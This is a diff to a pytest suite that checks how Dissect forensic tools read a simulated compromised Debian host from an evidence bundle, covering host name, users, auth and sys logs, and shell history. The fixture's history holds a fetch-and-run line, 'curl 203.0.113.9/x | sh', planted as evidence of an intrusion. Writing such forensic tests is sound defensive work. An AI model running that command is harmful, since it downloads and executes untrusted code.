@@ -2,8 +2,8 @@
 
 from __future__ import annotations
 
+import json
 import os
-import pwd
 import subprocess
 import sys
 from pathlib import Path
@@ -15,24 +15,30 @@ from hostile import link, regular
 from evidence.collection import Request, collect
 from evidence.intake import import_bundle
 
-QUERY = Path(sys.executable).with_name("target-query")
+TOOLS = Path(sys.executable).parent
 SYSLOG = b"""\
-Nov 22 03:14:07 ward-3 sshd[812]: Failed password for root from 203.0.113.9 port 50122 ssh2
-Nov 22 03:14:09 ward-3 sshd[812]: Accepted password for nurse from 203.0.113.9 port 50124 ssh2
+Nov 14 03:14:07 ward-3 sshd[812]: Failed password for root from 203.0.113.9 port 50122 ssh2
+Nov 14 03:14:09 ward-3 sshd[812]: Accepted password for nurse from 203.0.113.9 port 50124 ssh2
 """
 AUTH = SYSLOG.replace(b"812", b"813")
 
 
-def query(copy, *functions):
-    """What Dissect says of a folder; its errors are ours, too."""
+def dissect(tool, copy, *arguments):
+    """What a tool of Dissect prints about a folder."""
     done = subprocess.run(
-        [str(QUERY), "-q", str(copy), "-f", ",".join(functions)],
+        [str(TOOLS / tool), "-q", str(copy), *arguments],
         capture_output=True,
-        text=True,
         check=True,
-        env={"PATH": os.environ["PATH"], "HOME": str(copy), "LANG": "C.UTF-8"},
+        env={"PATH": os.environ["PATH"], "HOME": str(copy.parent), "LANG": "C.UTF-8"},
     )
     return done.stdout
+
+
+def records(copy, function):
+    """The records that a function of target-query gives, as JSON."""
+    lines = dissect("target-query", copy, "-j", "-f", function).splitlines()
+    found = [json.loads(line) for line in lines]
+    return [each for each in found if each.get("_type") != "recorddescriptor"]
 
 
 @pytest.fixture(scope="module")
@@ -45,6 +51,8 @@ def ward(tmp_path_factory):
         "/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nnurse:x:1000:1000::/home/nurse:/bin/sh\n",
         "/usr/lib/os-release": b'NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\n'
         b'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\n',
+        "/etc/debian_version": b"12.4\n",
+        "/etc/sysctl.conf": b"",
         "/etc/timezone": b"Asia/Tokyo\n",
         "/var/log/syslog": SYSLOG,
         "/var/log/auth.log": AUTH,
@@ -56,24 +64,31 @@ def ward(tmp_path_factory):
     return import_bundle(path, place / "case", identities=[IDENTITY]).host / "fs"
 
 
-def test_dissect_reads_host_name_users_and_version(ward):
-    found = query(ward, "hostname,version,users")
+def test_dissect_reads_host_name_system_and_users(ward):
+    # The version stands in a file behind a link: os-release(5).
+    found = dissect("target-query", ward, "-f", "hostname,os,version")
+    users = records(ward, "users")
 
-    assert "ward-3" in found
-    assert "Debian GNU/Linux 12" in found
-    assert "name='nurse'" in found
-    assert found.count("<linux/user") == 2
+    assert found.strip().endswith(b"> ward-3 linux Debian GNU/Linux 12")
+    assert [(user["name"], user["uid"]) for user in users] == [("root", 0), ("nurse", 1000)]
 
 
-def test_dissect_reads_every_line_of_the_logs(ward):
-    found = query(ward, "authlog")
+def test_dissect_reads_every_line_of_the_logs_in_the_year_that_their_file_had(ward):
+    """Such lines name no year: it comes from the file's time, which must have come back."""
+    for function in ("authlog", "syslog"):
+        found = records(ward, function)
 
-    assert found.count("203.0.113.9") == 2
-    assert query(ward, "syslog").count("203.0.113.9") == 2
+        assert sorted(each["ts"] for each in found) == [
+            "2023-11-14T03:14:07+09:00",
+            "2023-11-14T03:14:09+09:00",
+        ]
+        assert all("203.0.113.9" in each["message"] for each in found)
 
 
 def test_dissect_reads_the_history_of_a_home_by_its_path(ward):
-    assert "curl 203.0.113.9/x | sh" in query(ward, "commandhistory")
+    (line,) = records(ward, "commandhistory")
+
+    assert (line["command"], line["username"]) == ("curl 203.0.113.9/x | sh", "nurse")
 
 
 def test_dissect_reads_this_machine_from_its_own_collection(tmp_path):
@@ -85,14 +100,17 @@ def test_dissect_reads_this_machine_from_its_own_collection(tmp_path):
         only=("os-identity", "accounts", "var-log"),
     )
     collected = collect(request)
-    host = import_bundle(collected.path, tmp_path / "case", identities=[IDENTITY]).host
+    copy = import_bundle(collected.path, tmp_path / "case", identities=[IDENTITY]).host / "fs"
+    logs = [p for p in (copy / "var/log").rglob("*.log") if p.is_file() and p.stat().st_size]
 
-    found = query(host / "fs", "hostname,users")
+    name = dissect("target-query", copy, "-f", "hostname").decode()
+    users = records(copy, "users")
 
-    assert Path("/etc/hostname").read_text().strip() in found
-    for account in pwd.getpwall():
-        assert f"name='{account.pw_name}'" in found
-    assert found.count("<linux/user") == len(Path("/etc/passwd").read_text().splitlines())
-    logged = [path for path in (host / "fs/var/log").rglob("*") if path.is_file()]
-    assert logged
-    assert query(host / "fs", "walkfs").count("/var/log/") >= len(logged)
+    assert name.strip().endswith("> " + Path("/etc/hostname").read_text().strip())
+    accounts = [line.split(":") for line in Path("/etc/passwd").read_text().splitlines()]
+    assert [(user["name"], user["uid"]) for user in users] == [
+        (account[0], int(account[2])) for account in accounts
+    ]
+    assert logs
+    inside = f"/{min(logs).relative_to(copy)}"
+    assert dissect("target-fs", copy, "cat", inside) == min(logs).read_bytes()
